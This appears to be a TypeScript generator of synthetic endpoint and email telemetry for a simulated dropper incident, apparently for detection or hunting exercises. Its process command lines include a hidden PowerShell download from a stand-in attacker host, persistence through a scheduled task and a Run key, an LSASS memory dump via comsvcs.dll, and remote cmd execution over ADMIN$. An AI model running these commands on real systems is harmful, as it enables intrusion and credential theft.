import { devices, people, system } from "../organisation.js";
import {
  deviceColumns,
  fileColumns,
  initiatingColumns,
  type SampleProcess,
  sampleFile,
  sampleProcess,
  writeStart,
} from "../processes.js";
import type { RowWriter } from "../row-writer.js";
import { writeMail } from "../services.js";
import { dropper } from "../threats.js";

const microsoft = "Microsoft Corporation";
const system32 = "C:\\Windows\\System32";
const host = devices.financeSeven;

/** Attachment, dropper, command and control, credential theft, a second host: incident 2973. */
export function writeDropperStory(writer: RowWriter): void {
  writeAttachment(writer);
  const tree = createProcessTree();
  for (const process of Object.values(tree)) {
    if (process.startedMinutesAgo < 50) writeStart(writer, process);
  }
  writeDrop(writer, tree);
  writeControlTraffic(writer, tree);
  writePersistence(writer, tree);
  writeCredentialTheft(writer, tree);
  writeLateralMovement(writer);
}

type ProcessTree = ReturnType<typeof createProcessTree>;

function createProcessTree() {
  const account = people.ada;
  const explorer = sampleProcess(host, sampleFile("C:\\Windows\\explorer.exe", microsoft), 400, { account });
  const outlook = sampleProcess(
    host,
    sampleFile("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", microsoft),
    390,
    { parent: explorer },
  );
  const opened = sampleProcess(host, dropper.file, 47.9, {
    parent: explorer,
    commandLine: `"${dropper.file.folder}\\${dropper.file.name}" `,
  });
  const powershell = sampleProcess(
    host,
    sampleFile(`${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`, microsoft),
    47.4,
    {
      parent: opened,
      commandLine: `powershell.exe -NoP -W Hidden -C "$u='${dropper.downloadUrl}'; (New-Object Net.WebClient).DownloadFile($u,\\"C:\\ProgramData\\upd\\helper.dll\\") | Out-Null # it's // fine"`,
    },
  );
  const loader = sampleProcess(host, sampleFile(`${system32}\\rundll32.exe`, microsoft), 46, {
    parent: powershell,
    commandLine: "rundll32.exe C:\\ProgramData\\upd\\helper.dll,Start",
  });
  const shell = sampleProcess(host, sampleFile(`${system32}\\cmd.exe`, microsoft), 44.2, {
    parent: loader,
    commandLine: 'cmd.exe /c "whoami /all | findstr /i "S-1-5-32-544" > C:\\ProgramData\\upd\\o.txt & echo 100%"',
  });
  const whoami = sampleProcess(host, sampleFile(`${system32}\\whoami.exe`, microsoft), 44.1, {
    parent: shell,
    commandLine: "whoami /all",
  });
  const net = sampleProcess(host, sampleFile(`${system32}\\net.exe`, microsoft), 43.8, {
    parent: loader,
    commandLine: 'net  group "Domain Admins" /domain',
  });
  const scheduler = sampleProcess(host, sampleFile(`${system32}\\schtasks.exe`, microsoft), 42.6, {
    parent: loader,
    commandLine:
      'schtasks /create /sc minute /mo 30 /tn "Office Updater" /tr "rundll32.exe C:\\ProgramData\\upd\\helper.dll,Start" /f',
  });
  const dumper = sampleProcess(host, sampleFile(`${system32}\\rundll32.exe`, microsoft), 41, {
    parent: loader,
    isElevated: true,
    commandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\ProgramData\\upd\\l.dmp full",
  });
  return { explorer, outlook, opened, powershell, loader, shell, whoami, net, scheduler, dumper };
}

function writeAttachment(writer: RowWriter): void {
  writeMail(writer, 50, {
    messageId: dropper.messageId,
    from: dropper.sender,
    fromName: "Remittances",
    senderIp: dropper.senderIp,
    to: people.ada.upn,
    recipientId: people.ada.objectId,
    subject: dropper.subject,
    direction: "Inbound",
    attachments: 1,
  });
  writer.add("EmailAttachmentInfo", 50, {
    NetworkMessageId: dropper.messageId,
    SenderFromAddress: dropper.sender,
    SenderDisplayName: "Remittances",
    RecipientEmailAddress: people.ada.upn,
    RecipientObjectId: people.ada.objectId,
    FileName: dropper.file.name,
    FileType: "exe",
    SHA256: dropper.file.sha256,
    FileSize: dropper.file.size,
  });
}

function writeDrop(writer: RowWriter, { outlook, powershell, loader }: ProcessTree): void {
  const created = { ActionType: "FileCreated", IsAzureInfoProtectionApplied: false };
  writer.add(
    "DeviceFileEvents",
    48.5,
    { ...created, FileOriginReferrerUrl: "https://outlook.office.com/mail/" },
    fileColumns(dropper.file),
    initiatingColumns(outlook, writer),
  );
  writer.add(
    "DeviceFileEvents",
    46.8,
    { ...created, FileOriginUrl: dropper.downloadUrl, FileOriginIP: dropper.controlIp },
    fileColumns(dropper.library),
    initiatingColumns(powershell, writer),
  );
  writer.add(
    "DeviceImageLoadEvents",
    45.9,
    { ActionType: "ImageLoaded" },
    fileColumns(dropper.library),
    initiatingColumns(loader, writer),
  );
}

function writeControlTraffic(writer: RowWriter, { powershell, loader }: ProcessTree): void {
  writeConnection(writer, 47, powershell, "files.evil.example.net", "ConnectionSuccess");
  for (let beacon = 0; beacon < 10; beacon += 1) {
    const action = beacon === 9 ? "ConnectionFailed" : "ConnectionSuccess";
    writeConnection(writer, 45.5 - beacon * 2.5, loader, dropper.controlDomain, action);
  }
}

function writeConnection(
  writer: RowWriter,
  minutesAgo: number,
  process: SampleProcess,
  url: string,
  action: string,
): void {
  writer.add(
    "DeviceNetworkEvents",
    minutesAgo,
    {
      ActionType: action,
      RemoteIP: dropper.controlIp,
      RemotePort: 443,
      RemoteUrl: url,
      RemoteIPType: "Public",
      LocalIP: host.ip,
      LocalPort: 50_000 + Math.round(minutesAgo * 10),
      LocalIPType: "Private",
      Protocol: "Tcp",
    },
    initiatingColumns(process, writer),
  );
}

function writePersistence(writer: RowWriter, { loader }: ProcessTree): void {
  writer.add(
    "DeviceRegistryEvents",
    42.8,
    {
      ActionType: "RegistryValueSet",
      RegistryKey: `HKEY_CURRENT_USER\\${people.ada.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
      RegistryValueType: "String",
      RegistryValueName: "Updater",
      RegistryValueData: 'rundll32.exe "C:\\ProgramData\\upd\\helper.dll",Start',
    },
    initiatingColumns(loader, writer),
  );
  writer.add(
    "DeviceEvents",
    42.5,
    {
      ActionType: "ScheduledTaskCreated",
      AdditionalFields: JSON.stringify({ TaskName: "\\Office Updater", User: "EXAMPLE\\a.reyes" }),
    },
    initiatingColumns(loader, writer),
  );
}

function writeCredentialTheft(writer: RowWriter, { dumper }: ProcessTree): void {
  const lsass = sampleFile(`${system32}\\lsass.exe`, microsoft);
  writer.add(
    "DeviceEvents",
    40.9,
    {
      ActionType: "OpenProcessApiCall",
      ProcessId: 644,
      AdditionalFields: JSON.stringify({ DesiredAccess: 2_097_151 }),
    },
    fileColumns(lsass),
    initiatingColumns(dumper, writer),
  );
  writer.add(
    "DeviceFileEvents",
    40.8,
    { ActionType: "FileCreated", SensitivityLabel: "" },
    fileColumns(dropper.dump),
    initiatingColumns(dumper, writer),
  );
  writer.add(
    "DeviceEvents",
    40.4,
    {
      ActionType: "AntivirusDetection",
      AdditionalFields: JSON.stringify({ ThreatName: "HackTool:Win32/DumpLsass.A", WasRemediated: false }),
    },
    fileColumns(dropper.dump),
    initiatingColumns(dumper, writer),
  );
}

function writeLateralMovement(writer: RowWriter): void {
  const target = devices.files;
  const network = { LogonType: "Network", RemoteIP: host.ip, RemoteIPType: "Private", RemoteDeviceName: host.hostName };
  const account = {
    AccountDomain: people.backup.domain,
    AccountName: people.backup.name,
    AccountSid: people.backup.sid,
    Protocol: "NTLM",
  };
  for (let attempt = 0; attempt < 3; attempt += 1) {
    writer.add(
      "DeviceLogonEvents",
      39.5 - attempt * 0.2,
      { ActionType: "LogonFailed", FailureReason: "InvalidUserNameOrPassword", ...network, ...account },
      deviceColumns(devices.controller),
    );
  }
  writer.add(
    "DeviceLogonEvents",
    38,
    { ActionType: "LogonSuccess", IsLocalAdmin: true, LogonId: 7_340_112, ...network, ...account },
    deviceColumns(target),
  );
  const provider = sampleProcess(target, sampleFile(`${system32}\\wbem\\WmiPrvSE.exe`, microsoft), 600, {
    account: system,
  });
  const shell = sampleProcess(target, sampleFile(`${system32}\\cmd.exe`, microsoft), 37.2, {
    parent: provider,
    account: people.backup,
    isElevated: true,
    commandLine: 'cmd.exe /Q /c dir "\\\\srv-files-01\\Finance$\\Q3 // draft" 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1',
  });
  writeStart(writer, shell);
  const archive = sampleFile("C:\\Windows\\Temp\\a1.7z");
  writer.add(
    "DeviceFileEvents",
    36.1,
    {
      ActionType: "FileCreated",
      RequestProtocol: "Smb",
      RequestSourceIP: host.ip,
      RequestAccountName: people.backup.name,
      RequestAccountDomain: people.backup.domain,
      RequestAccountSid: people.backup.sid,
      ShareName: "ADMIN$",
    },
    fileColumns(archive),
    initiatingColumns(shell, writer),
  );
}
